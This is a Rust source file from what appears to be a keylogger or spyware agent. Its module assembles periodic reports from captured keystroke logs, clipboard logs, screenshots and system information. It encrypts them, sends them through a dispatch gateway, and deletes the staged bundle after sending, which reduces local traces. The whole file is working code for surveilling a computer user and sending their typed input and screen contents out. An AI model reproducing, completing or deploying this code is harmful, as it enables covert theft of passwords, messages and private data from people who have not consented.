//! Report cycle assembly.
//!
//! A cycle stages everything it sends in a fresh bundle directory. Live logs
//! are copied there, never moved or truncated, and encryption only touches
//! the staged copies. Any step that fails drops its artifact and the cycle
//! carries on. The bundle is removed once dispatch has been attempted; with
//! no gateway the newest few bundles stay on disk.

use crate::collector::tail_lines;
use crate::context::AgentContext;
use crate::crypto::{encrypt_in_place, should_encrypt};
use crate::dispatch::DispatchGateway;
use crate::report::providers::{ScreenshotProvider, SystemInfoProvider};
use crate::report::render::{message_body, render_report, subject_line};
use chrono::{DateTime, Utc};
use serde::Serialize;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use uuid::Uuid;

pub const KEYLOG_EXCERPT_LINES: usize = 50;
pub const CLIPBOARD_EXCERPT_LINES: usize = 30;

/// Bundles kept in the report directory when no gateway is configured,
/// including the newest one.
pub const RETAINED_UNSENT_BUNDLES: usize = 5;

const BUNDLE_PREFIX: &str = "cycle_";

/// One cycle's artifacts and excerpts. Lives only for the cycle.
#[derive(Debug, Clone, Serialize)]
pub struct ReportCycle {
    pub id: Uuid,
    pub started_at: DateTime<Utc>,
    pub bundle_dir: PathBuf,
    pub keylog: Option<PathBuf>,
    pub keylog_excerpt: Vec<String>,
    pub screenshot: Option<PathBuf>,
    pub system_info: Option<PathBuf>,
    pub clipboard_log: Option<PathBuf>,
    pub clipboard_excerpt: Vec<String>,
    pub report: Option<PathBuf>,
}

impl ReportCycle {
    fn new(report_dir: &Path) -> Self {
        let id = Uuid::new_v4();
        let started_at = Utc::now();
        let bundle_dir = report_dir.join(format!(
            "{BUNDLE_PREFIX}{}_{}",
            started_at.format("%Y%m%d_%H%M%S"),
            &id.simple().to_string()[..8]
        ));

        Self {
            id,
            started_at,
            bundle_dir,
            keylog: None,
            keylog_excerpt: Vec::new(),
            screenshot: None,
            system_info: None,
            clipboard_log: None,
            clipboard_excerpt: Vec::new(),
            report: None,
        }
    }

    /// Artifact paths in bundle order.
    pub fn attachments(&self) -> Vec<PathBuf> {
        [
            &self.keylog,
            &self.screenshot,
            &self.system_info,
            &self.clipboard_log,
            &self.report,
        ]
        .into_iter()
        .flatten()
        .cloned()
        .collect()
    }
}

/// How the dispatch step ended.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum DispatchStatus {
    Sent,
    Failed(String),
    /// No gateway configured
    Disabled,
}

/// Result of one cycle.
///
/// Once dispatch was attempted the bundle directory is removed, so the
/// paths below only stay readable when dispatch is disabled.
#[derive(Debug, Clone)]
pub struct CycleOutcome {
    pub cycle: ReportCycle,
    /// What was handed to the gateway
    pub attachments: Vec<PathBuf>,
    pub encrypted: Vec<PathBuf>,
    pub dispatch: DispatchStatus,
}

/// Builds and dispatches report bundles.
pub struct ReportAssembler {
    ctx: Arc<AgentContext>,
    screenshots: Box<dyn ScreenshotProvider>,
    system_info: Box<dyn SystemInfoProvider>,
    gateway: Option<Box<dyn DispatchGateway>>,
    hostname: String,
}

impl ReportAssembler {
    pub fn new(
        ctx: Arc<AgentContext>,
        screenshots: Box<dyn ScreenshotProvider>,
        system_info: Box<dyn SystemInfoProvider>,
        gateway: Option<Box<dyn DispatchGateway>>,
    ) -> Self {
        let hostname = hostname::get()
            .map(|h| h.to_string_lossy().to_string())
            .unwrap_or_else(|_| "unknown".to_string());

        Self {
            ctx,
            screenshots,
            system_info,
            gateway,
            hostname,
        }
    }

    /// Run one full cycle: collect, render, encrypt, dispatch.
    pub fn run_cycle(&self) -> CycleOutcome {
        let config = &self.ctx.config;
        let mut cycle = ReportCycle::new(&config.report_dir);

        tracing::info!(component = "assembler", cycle = %cycle.id, "report cycle started");

        if let Err(e) = std::fs::create_dir_all(&cycle.bundle_dir) {
            tracing::warn!(
                component = "assembler",
                path = %cycle.bundle_dir.display(),
                error = %e,
                "could not create bundle directory"
            );
        }

        if self.ctx.keylog_path.exists() {
            if let Some((path, excerpt)) =
                stage_log(&self.ctx.keylog_path, &cycle.bundle_dir, KEYLOG_EXCERPT_LINES)
            {
                cycle.keylog = Some(path);
                cycle.keylog_excerpt = excerpt;
            }
        }

        if config.features.screenshots {
            cycle.screenshot =
                collect("screenshot", || self.screenshots.capture(&cycle.bundle_dir));
        }

        if config.features.system_info {
            cycle.system_info =
                collect("system_info", || self.system_info.snapshot(&cycle.bundle_dir));
        }

        if config.clipboard_file.exists() {
            if let Some((path, excerpt)) =
                stage_log(&config.clipboard_file, &cycle.bundle_dir, CLIPBOARD_EXCERPT_LINES)
            {
                cycle.clipboard_log = Some(path);
                cycle.clipboard_excerpt = excerpt;
            }
        }

        let report_path = cycle.bundle_dir.join("report.txt");
        match std::fs::write(&report_path, render_report(&cycle, &self.hostname)) {
            Ok(()) => cycle.report = Some(report_path),
            Err(e) => {
                tracing::warn!(
                    component = "assembler",
                    error = %e,
                    "could not write report document"
                )
            }
        }

        let (attachments, encrypted) = self.encrypt(cycle.attachments());
        let dispatch = self.dispatch(&cycle, &attachments, !encrypted.is_empty());

        match dispatch {
            DispatchStatus::Disabled => {
                prune_bundles(&config.report_dir, &cycle.bundle_dir, RETAINED_UNSENT_BUNDLES)
            }
            DispatchStatus::Sent | DispatchStatus::Failed(_) => discard_bundle(&cycle.bundle_dir),
        }

        self.ctx.stats.record_cycle_completed();
        tracing::info!(
            component = "assembler",
            cycle = %cycle.id,
            attachments = attachments.len(),
            encrypted = encrypted.len(),
            dispatch = ?dispatch,
            "report cycle finished"
        );

        CycleOutcome {
            cycle,
            attachments,
            encrypted,
            dispatch,
        }
    }

    /// Encrypt eligible artifacts. An artifact that fails to encrypt is
    /// dropped rather than sent in plaintext.
    fn encrypt(&self, artifacts: Vec<PathBuf>) -> (Vec<PathBuf>, Vec<PathBuf>) {
        let Some(key) = self.ctx.key.as_ref() else {
            return (artifacts, Vec::new());
        };

        let mut kept = Vec::with_capacity(artifacts.len());
        let mut encrypted = Vec::new();
        for path in artifacts {
            if !should_encrypt(&path) {
                kept.push(path);
                continue;
            }
            match encrypt_in_place(&path, key) {
                Ok(()) => {
                    encrypted.push(path.clone());
                    kept.push(path);
                }
                Err(e) => {
                    tracing::warn!(
                        component = "crypto",
                        error = %e,
                        "artifact omitted: encryption failed"
                    )
                }
            }
        }
        (kept, encrypted)
    }

    fn dispatch(
        &self,
        cycle: &ReportCycle,
        attachments: &[PathBuf],
        encrypted: bool,
    ) -> DispatchStatus {
        let Some(gateway) = self.gateway.as_ref() else {
            return DispatchStatus::Disabled;
        };

        let subject = subject_line(cycle, &self.hostname);
        let body = message_body(cycle, attachments.len(), encrypted);

        match gateway.send(&subject, &body, attachments) {
            Ok(()) => DispatchStatus::Sent,
            Err(e) => {
                self.ctx.stats.record_dispatch_failure();
                tracing::warn!(
                    component = "dispatch",
                    cycle = %cycle.id,
                    error = %e,
                    "dispatch failed"
                );
                DispatchStatus::Failed(e.to_string())
            }
        }
    }
}

/// Copy a live log into the bundle and take the excerpt from the copy, so the
/// excerpt and the attachment agree.
fn stage_log(live: &Path, bundle_dir: &Path, lines: usize) -> Option<(PathBuf, Vec<String>)> {
    let name = live.file_name()?;
    let staged = bundle_dir.join(name);

    if let Err(e) = std::fs::copy(live, &staged) {
        tracing::warn!(
            component = "assembler",
            path = %live.display(),
            error = %e,
            "could not stage log"
        );
        return None;
    }

    match tail_lines(&staged, lines) {
        Ok(excerpt) => Some((staged, excerpt)),
        Err(e) => {
            tracing::warn!(
                component = "assembler",
                path = %staged.display(),
                error = %e,
                "could not read log tail"
            );
            Some((staged, Vec::new()))
        }
    }
}

fn discard_bundle(bundle_dir: &Path) {
    if let Err(e) = std::fs::remove_dir_all(bundle_dir) {
        tracing::warn!(
            component = "assembler",
            path = %bundle_dir.display(),
            error = %e,
            "could not remove bundle"
        );
    }
}

/// Keep `current` and the newest `keep - 1` other bundles.
fn prune_bundles(report_dir: &Path, current: &Path, keep: usize) {
    let entries = match std::fs::read_dir(report_dir) {
        Ok(entries) => entries,
        Err(e) => {
            tracing::warn!(component = "assembler", error = %e, "could not list bundles");
            return;
        }
    };

    let mut older: Vec<PathBuf> = entries
        .filter_map(|entry| entry.ok().map(|e| e.path()))
        .filter(|path| path.as_path() != current && path.is_dir())
        .filter(|path| {
            path.file_name()
                .and_then(|n| n.to_str())
                .is_some_and(|n| n.starts_with(BUNDLE_PREFIX))
        })
        .collect();

    // Names start with the cycle timestamp, so they sort oldest first.
    older.sort();
    let excess = older.len().saturating_sub(keep.saturating_sub(1));
    for path in older.drain(..excess) {
        discard_bundle(&path);
    }
}

fn collect<F>(artifact: &'static str, capture: F) -> Option<PathBuf>
where
    F: FnOnce() -> Result<Option<PathBuf>, crate::report::providers::ProviderError>,
{
    match capture() {
        Ok(Some(path)) => Some(path),
        Ok(None) => {
            tracing::debug!(component = "assembler", artifact, "provider returned nothing");
            None
        }
        Err(e) => {
            tracing::warn!(component = "assembler", artifact, error = %e, "artifact omitted");
            None
        }
    }
}
